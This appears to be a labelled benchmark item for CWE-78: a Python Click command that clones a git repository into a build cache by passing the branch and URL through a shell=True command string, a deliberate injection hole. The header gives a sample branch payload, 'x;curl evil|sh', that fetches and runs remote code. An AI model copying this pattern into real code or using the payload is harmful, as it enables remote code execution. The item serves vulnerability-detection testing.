# ---
# id: cwe78-r3-cli-git-mirror-v
# cwe: CWE-78
# vulnerable: true
# twin: none
# tags: click, subprocess
# explanation: A CLI entry point of a CI build cache; in deployment it is called by a webhook worker with the repository URL and branch from a push event. Both are formatted into a shell command with shell=True, so a branch name like 'x;curl evil|sh' (git allows ';' in ref names) runs commands.
# ---
import subprocess
import click


@click.command()
@click.argument("repo_url")
@click.option("--branch", default="main")
def mirror(repo_url, branch):
    """Clone REPO_URL into the build cache."""
    dest = "/var/cache/builds/" + repo_url.rstrip("/").split("/")[-1]
    subprocess.run(f"git clone --depth 1 -b {branch} {repo_url} {dest}",  #@vuln
                   shell=True, check=True)
    click.echo(dest)
